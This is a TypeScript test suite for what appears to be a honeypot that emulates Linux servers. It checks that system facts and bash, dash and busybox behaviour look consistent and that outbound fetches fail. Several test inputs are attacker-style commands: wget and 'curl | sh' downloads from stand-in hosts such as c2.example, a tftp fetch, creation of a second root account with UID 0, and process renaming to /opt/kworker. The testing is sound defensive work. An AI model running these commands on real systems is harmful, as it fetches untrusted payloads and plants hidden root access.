import { mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import { loadIdentity } from '../identity.ts'
import { personaNames, type PersonaName } from '../personas/index.ts'
import { md5crypt, shacrypt } from './commands/crypt.ts'
import { kindOf } from './commands/inspect.ts'
import { passwdLine } from './image.ts'
import { freshState, ShellPool } from './pool.ts'
import { asked } from './shell.ts'
import { Worlds } from './world.ts'

/** A device with a shell of its own. */
async function device(name: PersonaName) {
  const data = mkdtempSync(join(tmpdir(), 'skep-identity-'))
  const { persona } = await loadIdentity(data, name)
  const { machine } = persona
  const pool = new ShellPool(machine)
  const worlds = new Worlds(persona, pool)
  const root = machine.users[0]!
  /** What a line prints: for one command, or at a terminal. */
  const say = async (line: string, source = '192.0.2.1', merged = false) => {
    const result = await pool.run(worlds.of(source), {
      state: freshState('/root', 'root', '/bin/bash'),
      line,
      stdin: '',
      user: root,
      source,
      since: Date.now(),
      merged,
    })
    const { out, err } = asked(result)
    return { out: out.toString(), err: err.toString(), code: result.code }
  }
  const out = async (line: string): Promise<string> => (await say(line)).out.trim()
  return { data, machine, pool, worlds, say, out }
}
const first = await device('debian-11')
const { say, out } = first
afterAll(() => first.pool.stop())

// Servers; cameras have their own (personas/camera.test.ts).
describe.each(personaNames.filter((name) => !/^(?:debian|camera.*|openwrt)$/.test(name)))('%s', async (name) => {
  const { machine, out, data, pool } = await device(name)
  afterAll(() => pool.stop())

  test('all sources of the same fact agree', async () => {
    const { cpu, disk, network, kernel } = machine
    // Processors.
    for (const line of [
      'nproc',
      'grep -c ^processor /proc/cpuinfo',
      'getconf _NPROCESSORS_ONLN',
      "lscpu | awk '/^CPU\\(s\\)/{print $2}'",
      'ls -d /proc/stat >/dev/null; grep -c ^cpu[0-9] /proc/stat',
    ])
      expect(await out(line), line).toBe(String(cpu.cores))
    // ARM's kernel tells no name.
    const arm = kernel.arch === 'aarch64'
    expect(await out("grep -m1 'model name' /proc/cpuinfo | cut -d: -f2")).toBe(arm ? '' : cpu.model)
    expect(await out("lscpu | sed -n 's/^Model name: *//p'")).toBe(cpu.model)
    expect(Number(await out('dmesg | grep -c "' + cpu.model + '"'))).toBe(1)
    // Memory: within one line, so that it does not move between.
    const [total = '', free = '', shown = ''] = (
      await out(
        "grep MemTotal /proc/meminfo | tr -dc 0-9; echo; grep MemFree /proc/meminfo | tr -dc 0-9; echo; free -k | awk '/^Mem/{print $2, $4}'",
      )
    ).split('\n')
    expect(shown).toBe(`${total} ${free}`)
    expect(Number(total)).toBe(machine.memory.total)
    const sums = (await out("free -k | awk '/^Mem/{print $2, $3 + $4 + $6}'")).split(' ')
    expect(sums[0]).toBe(sums[1])
    // Names, kernel, disk, network.
    for (const line of [
      'hostname',
      'cat /etc/hostname',
      'uname -n',
      'cat /proc/sys/kernel/hostname',
      'echo $HOSTNAME',
      "hostnamectl | awk '/Static/{print $3}'",
    ])
      expect(await out(line), line).toBe(machine.hostname)
    for (const line of [
      'uname -r',
      'cat /proc/sys/kernel/osrelease',
      "awk '{print $3}' /proc/version",
      "ls /boot | sed -n 's/^vmlinuz-//p'",
    ])
      expect(await out(line), line).toBe(kernel.release)
    expect(await out("df -k / | awk 'END{print $2}'")).toBe(String(disk.total))
    expect(await out('awk \'$2 == "/" {print $1}\' /proc/mounts')).toBe(disk.device)
    expect(await out('mount | awk \'$3 == "/" {print $1}\'')).toBe(disk.device)
    for (const line of [
      `cat /sys/class/net/${network.device}/address`,
      `ip link show ${network.device} | awk '/ether/{print $2}'`,
      `ifconfig ${network.device} | awk '/ether/{print $2}'`,
    ])
      expect(await out(line), line).toBe(network.mac)
    for (const line of [
      'hostname -I',
      `ip -4 a show ${network.device} | sed -n 's/.*inet \\([^/]*\\).*/\\1/p'`,
      `ifconfig ${network.device} | awk '/inet /{print $2}'`,
    ])
      expect(await out(line), line).toBe(network.ip)
    // Processes: each that ps lists has its folder, with the same name.
    const listed = (await out('ps -eo pid,comm --no-headers')).split('\n').map((line) => line.trim().split(/ +/))
    for (const [pid = '', comm = ''] of listed.filter(([pid]) => Number(pid) < 1000).slice(0, 60))
      expect(await out(`cat /proc/${pid}/comm`), pid).toBe(comm)
    expect(await out('pidof nginx sshd | wc -w')).not.toBe('0')
    // Users.
    expect(await out('getent passwd root; head -1 /etc/passwd')).toBe(passwdLine(machine.users[0]!).repeat(2).trim())
    if (machine.os.packages === 'dpkg')
      expect(await out('stat -c "%U:%G" /usr/bin/crontab; ls -l /usr/bin/crontab | cut -d" " -f3,4')).toBe(
        'root:crontab\nroot crontab',
      )
  }, 60_000)

  test('a file has the size that a listing shows, and a program the header of the real one', async () => {
    const arm = machine.kernel.arch === 'aarch64'
    for (const path of ['/bin/ls', '/bin/echo', '/usr/sbin/sshd', '/etc/login.defs', '/usr/bin/ldd']) {
      const [wc, ls, stat] = (
        await out(`cat ${path} | wc -c; ls -lL ${path} | awk '{print $5}'; stat -L -c %s ${path}`)
      ).split('\n')
      expect([wc, stat], path).toEqual([ls, ls])
    }
    if (machine.os.packages === 'dpkg')
      expect(await out('head -c 20 /bin/busybox | od -An -tx1')).toBe(
        // A shared object, or a program of fixed place where it is built so.
        `7f 45 4c 46 02 01 01 00 00 00 00 00 00 00 00 00\n ${machine.os.id === 'ubuntu' ? '02' : '03'} 00 ${arm ? 'b7' : '3e'} 00`,
      )
    expect(await out('md5sum < /bin/ls')).toBe(await out('cat /usr/bin/ls | md5sum'))
    expect(await out('file -b /bin/ls')).toMatch(
      machine.os.packages !== 'dpkg'
        ? /^ELF 64-bit LSB /
        : arm
          ? /^ELF 64-bit LSB pie executable, ARM aarch64.*ld-linux-aarch64/
          : /^ELF 64-bit LSB pie executable, x86-64/,
    )
    expect(kindOf(Buffer.from('#!/bin/bash\n'))).toBe('Bourne-Again shell script, ASCII text executable')
  })

  test('one start and the next are the same machine; two machines share nothing of their own', async () => {
    const again = (await loadIdentity(data, name)).persona.machine
    expect(again).toEqual(machine)
    const other = (await loadIdentity(mkdtempSync(join(tmpdir(), 'skep-identity-')), name)).persona.machine
    expect(other.machineId).not.toBe(machine.machineId)
    expect(other.network.mac).not.toBe(machine.network.mac)
    expect(other.disk.uuid).not.toBe(machine.disk.uuid)
  })

  test('it is the release that it says it is, everywhere', async () => {
    const { os, kernel } = machine
    expect(await out('. /etc/os-release; echo $PRETTY_NAME')).toBe(os.pretty)
    const debian = os.packages === 'dpkg'
    if (debian) {
      expect(await out('lsb_release -ds')).toBe(os.pretty)
      expect(await out('lsb_release -cs')).toBe(os.codename)
    }
    expect(await out("hostnamectl | sed -n 's/.*Operating System: //p'")).toBe(os.pretty)
    if (debian) expect(await out('cut -d" " -f1-3 /etc/issue.net')).toContain(os.version)
    expect(await out('cat /proc/version')).toBe(`Linux version ${kernel.release} ${kernel.built} ${kernel.version}`)
    if (os.packages === 'none') return
    // Programs and packages are of one kind.
    const version = async (name: string) =>
      debian
        ? (await out(`dpkg -l ${name} | awk '/^ii/{print $3}'`)).replace(/^\d+:/, '')
        : (await out(`rpm -q ${name.replace('client', 'clients')}`)).replace(/^.*?-(?=\d)/, '')
    expect(await out('bash --version | head -1')).toContain((await version('bash')).split('-')[0])
    expect(await out('curl --version | head -1')).toContain((await version('curl')).split('-')[0])
    expect(await out('ssh -V 2>&1')).toContain((await version('openssh-client')).replace(/^(\S+?)-.*/, '$1'))
    if (!debian) return
    expect(await out('busybox | head -1')).toContain(
      (await out("dpkg -l 'busybox*' | awk '/^ii/{print $3; exit}'")).replace(/^1:|-.*/g, ''),
    )
    const text = await out(
      'ls -d /usr/lib/os-release /etc/debian_version; grep -rl "" /etc/apt/sources.list /etc/apt/sources.list.d 2>/dev/null | xargs cat',
    )
    expect(text).toContain(os.codename)
    expect(text).toContain(`${os.id}.`)
  })
})

test('the shell says what bash says', async () => {
  const { out: help } = await say('help; help nothing; type kill; enable | wc -l; compgen -c 2>/dev/null | head -0')
  expect(help).toContain('GNU bash, version 5.1.4(1)-release (x86_64-pc-linux-gnu)')
  expect(help).not.toMatch(/just/i)
  const env = await out('export A=1; env; printenv HOME')
  expect(env).toContain('A=1')
  expect(env).not.toMatch(/^(IFS|OSTYPE|BASHOPTS|HOSTNAME|\?)=/m)
  for (const strange of ['jq', 'yq', 'rg', 'xan', 'sqlite3', 'html-to-markdown', 'node', 'js-exec'])
    expect((await say(`${strange} --help`)).err).toBe(`bash: line 1: ${strange}: command not found\n`)
  expect(await out('ls --version | head -1; cat --help | head -1')).toBe(
    'ls (GNU coreutils) 8.32\nUsage: cat [OPTION]... [FILE]...',
  )
})

test('what cannot be written ends one command, with the reason, and not the line', async () => {
  expect(await say('echo a > /nowhere/x; echo b > /proc/.x; echo c > /sys/.x; echo d > /etc; echo on')).toEqual({
    out: 'on\n',
    err: 'bash: line 1: /nowhere/x: No such file or directory\nbash: line 1: /proc/.x: No such file or directory\nbash: line 1: /sys/.x: Permission denied\nbash: line 1: /etc: Is a directory\n',
    code: 0,
  })
  expect((await say("echo 'a", '192.0.2.1', false)).err).toBe(
    "bash: -c: line 1: unexpected EOF while looking for matching `''\nbash: -c: line 2: syntax error: unexpected end of file\n",
  )
  expect((await say('echo x ;; y', '192.0.2.1', true)).out).toBe("-bash: syntax error near unexpected token `;;'\n")
})

test('sh speaks as dash, busybox as busybox', async () => {
  expect(
    (
      await say(
        'echo "nothing\ncd /none\n./x" | sed "s/.n/\\n/g" >/dev/null; printf "nothing\\ncd /none\\n./x\\n" | sh',
      )
    ).err,
  ).toBe("sh: 1: nothing: not found\nsh: 2: cd: can't cd to /none\nsh: 3: ./x: not found\n")
  expect(await say('sh none.sh')).toEqual({ out: '', err: 'sh: 0: cannot open none.sh: No such file\n', code: 2 })
  const { err } = await say('busybox cat /none; busybox rm /none; busybox ls /none; busybox kill 31999; busybox XYZAB')
  expect(err).toBe(
    "cat: can't open '/none': No such file or directory\nrm: can't remove '/none': No such file or directory\nls: /none: No such file or directory\nkill: can't kill pid 31999: No such process\nXYZAB: applet not found\n",
  )
  expect((await say('busybox wget')).err).toMatch(/^BusyBox v1\.30\.1 .* multi-call binary\.\n\nUsage: wget /)
})

test('a log-in shell is called with a dash; ls prints columns to a terminal, and only there', async () => {
  const typed = async (line: string): Promise<string> => (await say(line, '192.0.2.78', true)).out
  expect(await typed('echo $0; env | grep -c ^0')).toBe('-bash\n0\n')
  expect(await out('echo $0; env | grep -c ^0')).toBe('bash\n0')
  expect(await typed('cd /etc/ssh; ls')).toMatch(/^ssh_config\t+ *\S+/)
  expect(
    await typed('ls /etc/ssh | head -1; x=$(ls /etc/ssh); echo "$x" | head -1; ls /etc/ssh > /tmp/l; head -1 /tmp/l'),
  ).toBe('ssh_config\n'.repeat(3))
  expect(await typed('nosuch 2>&1 | cat')).toBe('-bash: nosuch: command not found\n')
  expect(await out('nosuch 2>&1 | cat')).toBe('bash: line 1: nosuch: command not found')
})

test('what chattr locks stays as it is', async () => {
  const source = '192.0.2.79'
  expect(
    await say(
      'echo a > f; chattr +i f; rm -f f; mv f g; lsattr f; chattr -i f; chattr +a f; echo b >> f; rm f; cat f; chattr -a f; rm f; ls f',
      source,
    ),
  ).toEqual({
    out: '----i---------e------- f\na\nb\n',
    err: "rm: cannot remove 'f': Operation not permitted\nmv: cannot move 'f' to 'g': Operation not permitted\nrm: cannot remove 'f': Operation not permitted\nls: cannot access 'f': No such file or directory\n",
    code: 2,
  })
})

test('nobody waits for what runs in the background', async () => {
  const before = Date.now()
  expect(await out('sleep 600 & echo on; (sleep 500; echo later) & nothing_here & echo $?')).toBe('on\n0\nlater')
  expect(Date.now() - before).toBeLessThan(20_000)
})

test('nothing is fetched: names are not resolved, connections are turned back, the machine itself answers', async () => {
  const wget = await say('wget http://198.51.100.7/x.sh; ls x.sh')
  expect(wget.err).toContain('Connecting to 198.51.100.7:80... failed: No route to host.\n')
  expect(wget.err).toContain("ls: cannot access 'x.sh': No such file or directory")
  expect((await say('curl -O http://198.51.100.7/x')).code).toBe(7)
  expect((await say('wget -q http://c2.example/x')).code).toBe(4)
  expect(await out('curl -s http://127.0.0.1/ | grep -c "<title>"')).toBe('1')
  expect((await say('busybox tftp -g -r x 198.51.100.7')).err).toBe('tftp: sendto: No route to host\n')
}, 30_000)

test('a password is hashed as crypt(3) hashes it', () => {
  // Made with openssl passwd -1 -salt abcdefgh vGhVVXXb
  expect(md5crypt('vGhVVXXb', 'abcdefgh')).toBe('$1$abcdefgh$0vRM4Khgtqne3lBXV8URS/')
  // Made with openssl passwd -5 and -6.
  expect(shacrypt('Hello world!', 'saltstring', 'sha256')).toBe(
    '$5$saltstring$5B8vYYiY.CVt1RlTTf8KbXBH3hsxY/GNooZaBBGWEc5',
  )
  expect(shacrypt('Hello world!', 'saltstring', 'sha512')).toBe(
    '$6$saltstring$svn8UoSVapNtMuq1ukKS4tPQd8iKwSMHWjl/O817G3uBnIFNjnQJuesI68u4OTLiBFdcbYEdFCoEOfaS35inz1',
  )
})

test('an account that is made is there, in its groups, with its folder, until it is taken away', async () => {
  const source = '192.0.2.20'
  const { out: said } = await say(
    'useradd -m -s /bin/bash -G sudo helper; id helper; groups helper; ls -d /home/helper; grep -c ^helper /etc/shadow; getent passwd helper; userdel -r helper; id helper; ls /home/helper',
    source,
  )
  const { uid = 0 } = { uid: Number(/uid=(\d+)/.exec(said)?.[1]) }
  expect(uid).toBeGreaterThanOrEqual(1000)
  expect(said).toBe(
    `uid=${uid}(helper) gid=${uid}(helper) groups=${uid}(helper),27(sudo)\nhelper : helper sudo\n/home/helper\n1\nhelper:x:${uid}:${uid}::/home/helper:/bin/bash\n`,
  )
  expect((await say('useradd root; useradd -u 0 x1; useradd -o -u 0 -d / x2; id -u x2', source)).out).toBe('0\n')
})

test('what runs for too long is ended, what is to run at the end runs, and a process may stand in for a file', async () => {
  const before = Date.now()
  expect(
    await out("timeout 1 sleep 300; echo $?; trap 'echo last' EXIT; diff <(echo a) <(echo b); head -1 <(seq 5)"),
  ).toBe('124\n1c1\n< a\n---\n> b\n1\nlast')
  expect(Date.now() - before).toBeLessThan(20_000)
  expect(await out('seq 10 | head -n -7; seq 10 | tail -n +9; seq 3 | tail -c 2; head -c 4 /dev/zero | wc -c')).toBe(
    '1\n2\n3\n9\n10\n3\n\n4'.replace('\n\n', '\n'),
  )
  expect(await out('echo hello | xxd; echo 68690a | xxd -r -p; echo "a b" | xargs -n1 echo x')).toBe(
    '00000000: 6865 6c6c 6f0a                           hello.\nhi\nx a\nx b',
  )
})

test('at a terminal, errors go to it and not through pipes, into files or into what is substituted', async () => {
  const typed = async (line: string): Promise<string> => (await say(line, '192.0.2.77', true)).out
  const lost = "ls: cannot access '/nope': No such file or directory\n"
  expect(await typed('ls /nope | wc -l')).toBe(`${lost}0\n`)
  expect(await typed('curl http://192.0.2.1/x | sh')).toMatch(/^curl: \(7\) Failed to connect/)
  expect(await typed('nope | cat -n')).toBe('-bash: nope: command not found\n')
  expect(await typed('x=$(ls /nope); echo "[$x]"')).toBe(`${lost}[]\n`)
  expect(await typed('ls /nope > /tmp/o; cat /tmp/o; echo end')).toBe(`${lost}end\n`)
  expect(await typed('{ ls /nope; } 2>/dev/null; (ls /nope) 2> /tmp/e; wc -l < /tmp/e')).toBe('1\n')
  // Between what is printed, in its order.
  expect(await typed('for i in 1 2; do ls /nope; echo $i; done')).toBe(`${lost}1\n${lost}2\n`)
  expect(await typed('if ls /nope; then echo a; else echo b; fi; ! ls /nope && echo c')).toBe(`${lost}b\n${lost}c\n`)
  expect(await typed('cd /nope; pwd')).toBe('-bash: cd: /nope: No such file or directory\n/root\n')
})

test('exec -a gives a program another name to call itself by', async () => {
  expect((await say('(exec -a /opt/kworker ls /nope)')).err).toBe(
    "/opt/kworker: cannot access '/nope': No such file or directory\n",
  )
})

test('a copy of a program is that program, whatever its name; one that was brought runs and says nothing', async () => {
  expect(
    await out('cp /bin/busybox /tmp/b; /tmp/b KDOE; cd /tmp; cat /usr/bin/id > .i; chmod +x .i; ./.i -u'),
  ).toContain('0')
  expect((await say('cp /bin/busybox /tmp/b; cp /bin/busybox /tmp/b; /tmp/b KDOE')).err).toBe(
    'KDOE: applet not found\n',
  )
  expect(await out('printf "\\177ELF\\1\\1\\1" > /tmp/m; chmod +x /tmp/m; /tmp/m x; echo $?')).toBe('0')
})

test('a script on the input shares it with its commands; what sleeps in the background prints when its time has come', async () => {
  expect(await out('printf \'echo $1\\nwhile read x; do echo "[$x]"; done\\nl1\\nl2\\n\' | bash -s a')).toBe(
    'a\n[l1]\n[l2]',
  )
  expect(await out('printf \'read x\\nhello\\necho "got $x"\\nexec sh\\necho in $0\\n\' | bash')).toBe(
    'got hello\nin sh',
  )
  expect(await out('(sleep 0.2; echo late) & echo early; wait; echo $?')).toBe('early\nlate\n0')
  expect(await out('sleep 100 & kill %1; wait %1; echo $?; sleep 0.1 & jobs -p | wc -l')).toBe('143\n1')
  expect(await out('while read f; do wc -l $f; done <<< $(printf "/etc/hostname\\n/etc/hostname\\n")')).toContain(
    '/etc/hostname',
  )
  expect(await out('printf "1\\n2\\n" | while read n; do ls / >/dev/null; echo $n; done')).toBe('1\n2')
})

test('a shell within the shell has its own words, and what ends a shell is told', async () => {
  const { machine, pool, worlds } = first
  const run = (line: string, reading: { line: number; within?: 'sh' | 'bash' }) =>
    pool.run(worlds.of('192.0.2.91'), {
      state: freshState('/root', 'root', '/bin/bash'),
      line,
      stdin: '',
      user: machine.users[0]!,
      source: '192.0.2.91',
      since: Date.now(),
      merged: true,
      reading,
    })
  expect((await run('nosuch', { line: 4, within: 'sh' })).out).toBe('sh: 4: nosuch: not found\n')
  expect((await run('nosuch', { line: 4, within: 'bash' })).out).toBe('bash: nosuch: command not found\n')
  expect((await run('nosuch', { line: 4 })).out).toBe('-bash: nosuch: command not found\n')
  expect(await run('false || exit 3', { line: 1 })).toMatchObject({ exited: true, code: 3 })
  expect(await run('kill -9 $$; echo', { line: 1 })).toMatchObject({ exited: true, code: 137 })
  expect(await run('(exit 3); echo $?', { line: 1 })).toMatchObject({ exited: false, out: '3\n' })
  expect(await run('for i in 1 2', { line: 1 })).toMatchObject({ unfinished: true })
})
